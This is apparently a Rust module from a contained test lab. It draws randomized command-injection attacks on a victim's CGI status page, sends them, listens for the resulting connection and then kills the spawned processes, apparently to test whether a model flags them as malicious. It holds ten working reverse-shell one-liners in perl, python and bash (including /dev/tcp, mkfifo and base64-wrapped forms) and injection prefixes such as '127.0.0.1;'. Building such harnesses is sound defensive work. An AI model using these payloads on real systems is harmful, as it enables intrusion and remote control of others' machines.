//! Attacks that are never the same twice: a visitor uses a flaw in the victim's web page to open a shell to a
//! listener outside. Ways in, languages, ports, names and shells are drawn. Whether the model calls one malicious is
//! the model's business: it is told nothing.

use std::fs;
use std::io::Write as _;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context as _, Result};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use nix::errno::Errno;
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use crate::demo::{WEB_PORT, encode};
use crate::lab::Node;
use crate::record::Rng;
use crate::wait;

const PATIENCE: Duration = Duration::from_secs(10);
/// In the environment of what a visitor's request started, and of nothing else on the victim.
const MARK: &[u8] = b"GATEWAY_INTERFACE=";

/// Each connects and hands the connection to a shell.
const LINES: [&str; 10] = [
    r#"perl -MSocket -e 'socket(@V@,PF_INET,SOCK_STREAM,6);connect(@V@,sockaddr_in(@PORT@,inet_aton("@HOST@")))&&do{open(STDIN,"<&@V@");open(STDOUT,">&@V@");open(STDERR,">&@V@");exec("@SH@","-i")}'"#,
    r#"perl -MIO::Socket::INET -e '$@V@=IO::Socket::INET->new("@HOST@:@PORT@");STDIN->fdopen($@V@,"r");$~->fdopen($@V@,"w");system$_ while<>'"#,
    r#"python3 -c 'import socket,os;@V@=socket.socket();@V@.connect(("@HOST@",@PORT@));[os.dup2(@V@.fileno(),@W@) for @W@ in (0,1,2)];os.execv("@SH@",["@SH@","-i"])'"#,
    r#"python3 -c 'import socket,subprocess,os;@V@=socket.create_connection(("@HOST@",@PORT@));os.dup2(@V@.fileno(),0);os.dup2(@V@.fileno(),1);subprocess.call(["@SH@","-i"])'"#,
    r#"python3 -c 'import socket,pty,os;@V@=socket.create_connection(("@HOST@",@PORT@));[os.dup2(@V@.fileno(),@W@) for @W@ in range(3)];pty.spawn("@SH@")'"#,
    "bash -c 'bash -i >& /dev/tcp/@HOST@/@PORT@ 0>&1'",
    "bash -c 'exec 5<>/dev/tcp/@HOST@/@PORT@; @SH@ <&5 >&5 2>&5'",
    "bash -c '0<&196; exec 196<>/dev/tcp/@HOST@/@PORT@; @SH@ <&196 >&196 2>&196'",
    "rm -f /tmp/@W@; mkfifo /tmp/@W@; bash -c 'cat /tmp/@W@ | @SH@ -i > /dev/tcp/@HOST@/@PORT@ 2>&1'",
    "echo @CODED@ | base64 -d | bash",
];
/// What the last line has wrapped.
const CODED: &str = "exec 7<>/dev/tcp/@HOST@/@PORT@; @SH@ -i <&7 >&7 2>&7";
/// How the visitor's text becomes a command.
const WAYS_IN: [&str; 4] = ["127.0.0.1;", "127.0.0.1 && ", "127.0.0.1 | ", "localhost;"];
const SHELLS: [&str; 4] = ["/bin/sh", "/bin/bash", "/usr/bin/bash", "/bin/dash"];

/// One attack, drawn.
pub struct Attack {
    /// The visitor's text.
    pub text: String,
    listening: SocketAddr,
}

impl Attack {
    /// Draws one on behalf of `attacker`.
    pub fn draw(rng: &mut Rng, attacker: &Node) -> Self {
        let host = attacker.address_v4();
        let port = rng.between(1025, 32_000) as u16;
        let letters = 3 + rng.below(6);
        let values = [
            ("@SH@", rng.pick(&SHELLS).to_owned()),
            ("@V@", rng.word(letters)),
            ("@W@", rng.word(letters + 1)),
            ("@HOST@", host.to_string()),
            ("@PORT@", port.to_string()),
        ];
        let fill = |text: &str| {
            let put = |text: String, (name, value): &(&str, String)| text.replace(name, value);
            values.iter().fold(text.to_owned(), put)
        };
        let line = fill(rng.pick(&LINES)).replace("@CODED@", &BASE64.encode(fill(CODED)));
        Self {
            text: format!("{}{line}", rng.pick(&WAYS_IN)),
            listening: SocketAddr::new(host.into(), port),
        }
    }

    /// Begins it and does not wait for anything. Dropping what is returned, the attacker's ends, hangs up.
    pub fn begin(&self, attacker: &Node, victim: &Node) -> Result<(TcpListener, TcpStream)> {
        let page = SocketAddr::new(victim.address_v4().into(), WEB_PORT);
        let (listener, mut visit) = attacker.within_network(|| {
            let listener = TcpListener::bind(self.listening)
                .with_context(|| format!("cannot listen on {}", self.listening))?;
            Ok((listener, TcpStream::connect_timeout(&page, PATIENCE)?))
        })?;
        let query = encode(&format!("host={}", self.text));
        write!(visit, "GET /cgi-bin/status?{query} HTTP/1.0\r\n\r\n")?;
        Ok((listener, visit))
    }
}

/// Ends whatever visitors started on the victim.
pub fn end_all(victim: &Node) -> Result<()> {
    wait::until("end of the attack's processes", PATIENCE, || {
        let mut left = 0;
        for pid in processes_of(victim)? {
            let environment = fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
            if environment
                .split(|byte| *byte == 0)
                .any(|one| one.starts_with(MARK))
            {
                left += 1;
                end(pid)?;
            }
        }
        Ok((left == 0).then_some(()))
    })
}

fn end(pid: i32) -> Result<()> {
    match kill(Pid::from_raw(pid), Signal::SIGKILL) {
        Ok(()) | Err(Errno::ESRCH) => Ok(()),
        Err(errno) => Err(errno).with_context(|| format!("cannot end process {pid}")),
    }
}

/// The living processes of a node, as the machine numbers them: those in its PID namespace.
pub fn processes_of(node: &Node) -> Result<Vec<i32>> {
    let namespace = |pid: i32| fs::read_link(format!("/proc/{pid}/ns/pid")).ok();
    let own: PathBuf = namespace(node.pid()).with_context(|| format!("{} is gone", node.name()))?;
    let entries = fs::read_dir("/proc").context("cannot list processes")?;
    let pids = entries.filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok());
    Ok(pids
        .filter(|pid| namespace(*pid).as_ref() == Some(&own))
        .collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_drawn_is_whole_and_differs() {
        let attacker = Node::new("outside", 1, 200);
        let mut rng = Rng::named(7, "attack", 0);
        let texts: Vec<String> = (0..40)
            .map(|_| Attack::draw(&mut rng, &attacker).text)
            .collect();
        let mut different = texts.clone();
        different.sort();
        different.dedup();
        assert_eq!(different.len(), texts.len());
        assert!(texts.iter().all(|text| !text.contains('@')), "{texts:#?}");
    }
}
